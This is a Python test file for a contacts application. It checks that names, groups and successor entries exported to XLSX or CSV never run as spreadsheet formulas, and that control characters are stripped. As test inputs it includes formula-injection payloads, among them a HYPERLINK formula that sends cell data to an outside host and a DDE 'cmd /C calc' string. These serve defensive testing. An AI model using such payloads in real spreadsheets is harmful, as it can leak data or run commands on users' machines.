"""No name runs as a formula or breaks the file, whoever wrote it and however it came in."""

from __future__ import annotations

import io
from collections.abc import AsyncIterator
from datetime import datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlmodel import col, select

from bot.asking import leave_list
from bot.config import Config
from contacts.cells import clean, guarded
from contacts.directory import ContactGroup, Person
from contacts.groups import make_group
from contacts.importing import read_contacts
from contacts.importing import texts as words
from contacts.importing.exporting import Kind, write_rows
from contacts.journal import SYSTEM
from contacts.records import Database
from contacts.successors import Succession, SuccessionStatus, accept
from tests.console_world import SAME_SITE, World
from tests.contact_files_world import rows
from tests.list_check_world import a_reachable_world, one, page_of

FORMULA = '=HYPERLINK("https://x.example/?"&B2,"Jan")'
TEXT = st.text(st.sampled_from("=+-@' a1\x01\t\n;\"é\u202f\x9f") | st.characters(), max_size=12)


def a_row(name: str, **more: str) -> dict[str, str]:
    columns = dict.fromkeys(words.HEADERS, "")
    return {
        **columns, "organisation": "School", "domain": "onderwijs", "name": name,
        "audiences": "docent_po", "language": "nl", **more,
    }  # fmt: skip


@given(TEXT)
@example("'+31 6 12345678")
@example("\x01=1+1")
@example("'='=1+1")
def test_a_cleaned_cell_stays_as_it_is_and_loses_its_guard(text: str) -> None:
    cell = clean(text)
    assert clean(cell) == cell
    assert clean(guarded(text)) == cell
    assert guarded(cell) == cell
    assert cell.isprintable() or all(sign.isprintable() or ord(sign) > 0x9F for sign in cell)


@pytest.mark.parametrize("name", [FORMULA, "@SUM(1)", "-1+1", "+cmd|' /C calc'!A0", "#REF!"])
def test_an_old_formula_leaves_as_text_in_every_form(name: str) -> None:
    book = load_workbook(io.BytesIO(write_rows([a_row(name)], Kind.XLSX)))
    assert {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row} <= {
        "s",
        "inlineStr",
    }
    assert name in {cell.value for cell in book.worksheets[0][2]}
    lines = write_rows([a_row(name)], Kind.CSV).decode("utf-8-sig").splitlines()
    assert not any(cell.strip('"')[:1] in set("=+-@") for cell in lines[1].split(";") if cell)


@pytest.mark.parametrize("kind", Kind)
def test_a_control_character_does_not_break_the_file(kind: Kind) -> None:
    raw = write_rows([a_row("Ja\x01n", function="\ufffeleraar", phone="+31 6 1")], kind)
    (row,) = read_contacts(raw).rows
    assert (row.name, row.function, row.phone) == ("Jan", "leraar", "+31 6 1")


def test_a_telephone_number_is_not_quoted() -> None:
    raw = write_rows([a_row("Jan", phone="+31 6 12345678")], Kind.CSV).decode("utf-8-sig")
    assert ";+31 6 12345678;" in raw


def test_a_group_or_place_in_the_middle_of_a_cell_is_cleaned_as_well() -> None:
    raw = write_rows([a_row("Jan", groups="Een | =1+1", sites="Een | =2+2")], Kind.CSV)
    (row,) = read_contacts(raw).rows
    assert row.groups == ("Een", "1+1")
    assert [site.name for site in row.sites] == ["Een", "2+2"]


@pytest.fixture
async def world(db: Database, now: datetime) -> AsyncIterator[World]:
    async with a_reachable_world(db, now) as made:
        yield made


async def a_vacant_place(world: World) -> tuple[str, Succession]:
    """The page of a colleague of who left, and the place that is vacant."""
    async with world.db.begin() as session:
        session.add(
            Person(
                organisation_id=world.organisation_id, name="Teamleider", created_at=world.now
            )
        )  # fmt: skip
        found = await session.exec(select(Person).where(col(Person.name) == "Docent"))
        await leave_list(session, found.one(), Config(), who=SYSTEM, now=world.now)
    (place,) = await rows(world.db, Succession)
    return await page_of(world, "Teamleider"), place


async def test_a_successor_named_as_a_formula_comes_on_the_list_as_words(world: World) -> None:
    page, place = await a_vacant_place(world)
    fields = {"plek": place.id, "naam": FORMULA, "functie": "@le\x01raar", "e-mail": "n@s.example"}
    await world.web.post(f"{page}/opvolger", data=fields, headers=SAME_SITE)
    await world.press(f"/opvolging/{place.id}", doe="aannemen", **{"e-mail": "n@s.example"})
    new = await one(world, FORMULA[1:])
    assert new.function == "leraar"


async def test_a_successor_whose_name_is_nothing_but_signs_is_refused(world: World) -> None:
    page, place = await a_vacant_place(world)
    fields = {"plek": place.id, "naam": "=+\x01", "functie": "", "e-mail": "n@s.example"}
    answer = await world.web.post(f"{page}/opvolger", data=fields, headers=SAME_SITE)
    assert answer.status_code == 400
    assert (await rows(world.db, Succession))[0].status is SuccessionStatus.ASKED


async def test_what_was_proposed_before_names_were_cleaned_is_cleaned_when_accepted(
    world: World,
) -> None:
    _, place = await a_vacant_place(world)
    async with world.db.begin() as session:
        kept = await session.get_one(Succession, place.id)
        kept.status, kept.name, kept.email = SuccessionStatus.PROPOSED, "=1+1", "n@s.example"
        session.add(kept)
        await session.flush()
        person = await accept(session, kept, who=SYSTEM, now=world.now)
        assert person.name == "1+1"


async def test_a_group_named_as_a_formula_is_made_of_its_words(world: World) -> None:
    assert (await world.press("/contacten/groepen", naam="=A1", soort="hand")).status_code == 303
    assert (await world.press("/contacten/groepen", naam="=@", soort="hand")).status_code == 422
    async with world.db.begin() as session:
        assert await make_group(session, "-A1", None, who=SYSTEM, now=world.now) is None
        with pytest.raises(ValueError, match="not a name"):
            await make_group(session, "\x01=", None, who=SYSTEM, now=world.now)
    assert [group.name for group in await rows(world.db, ContactGroup)] == ["A1"]
